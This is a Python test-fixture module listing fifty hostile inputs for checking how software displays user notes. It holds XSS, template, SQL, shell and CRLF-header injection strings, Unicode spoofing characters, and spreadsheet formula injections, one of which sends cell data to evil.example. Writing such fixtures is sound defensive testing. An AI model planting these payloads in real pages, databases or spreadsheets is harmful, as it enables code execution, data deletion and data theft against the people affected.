"""Fifty notes that somebody might write to run, load, forge or break something that shows them.

Whatever they would run sets `hacked` on the page; whatever they would load comes from evil.example.
"""

SCRIPTS = (
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    '<img src="http://evil.example/p.png">',
    "<svg onload=window.hacked=1>",
    '<svg><script href="http://evil.example/a.js"></script></svg>',
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    '<iframe src="javascript:parent.hacked=1"></iframe>',
    "<body onload=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    '<link rel=stylesheet href="http://evil.example/a.css">',
    '<style>@import "http://evil.example/b.css";</style>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><button>OK',
    '<a href="javascript:window.hacked=1">click</a>',
    '<a href="http://evil.example/">the office</a>',
    '"><script>window.hacked=1</script>',
    "' onmouseover='window.hacked=1",
    "`${window.hacked=1}`",
    "';window.hacked=1;//",
    "--><script>window.hacked=1</script><!--",
    "]]><script>window.hacked=1</script>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    '<table background="http://evil.example/t.png"><tr><td>x',
    '<div style="background:url(http://evil.example/d.png)">x</div>',
    "<b>bold</b> <font size=99>HUGE</font>",
)
TEMPLATES = (
    "{{7*7}}",
    "{% import os %}{{ os.system('id') }}",
    "${7*7}",
    "{0.__class__.__mro__}",
    "{name} {link} {order}",
    "%s%s%s%n%x",
    "$(touch hacked) `touch hacked`",
)
QUERIES = (
    "'; DROP TABLE events; --",
    "' OR '1'='1",
    '"; DELETE FROM personal WHERE ""="',
    "Robert'); ATTACH DATABASE 'x' AS y; --",
)
LETTERS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067مرحبا\u2069 abc",  # noqa: RUF001
    "Z̸̢͎̫͝a̵͇̿l̶͉̈́g̷̰̊o̶̢͑" + "\u0301" * 200,
    "line one\r\nBcc: all@evil.example\r\n\r\nline two",
    "\u2028\u2029\u0085\u200b\ufeff",
    "null\x00byte \x1b[31mred\x07",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"refund")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
NOTES = (*SCRIPTS, *TEMPLATES, *QUERIES, *LETTERS, *FORMULAS)
